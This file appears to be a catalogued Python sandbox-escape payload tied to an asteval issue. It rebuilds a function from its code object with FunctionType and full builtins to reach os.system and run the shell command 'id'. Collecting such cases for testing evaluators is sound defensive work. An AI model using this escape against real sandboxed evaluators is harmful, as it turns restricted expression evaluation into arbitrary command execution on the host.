# Source: https://github.com/lmfit/asteval/issues/32 (getting at a code instance makes type() lethal)
# Family: frame
# What: reads co_consts/co_names of a code object and rebuilds a function with FunctionType
def template():
    return __import__("os").system("id")

c = template.__code__
names = c.co_names
FT = type(template)
FT(c, {"__builtins__": __builtins__})()
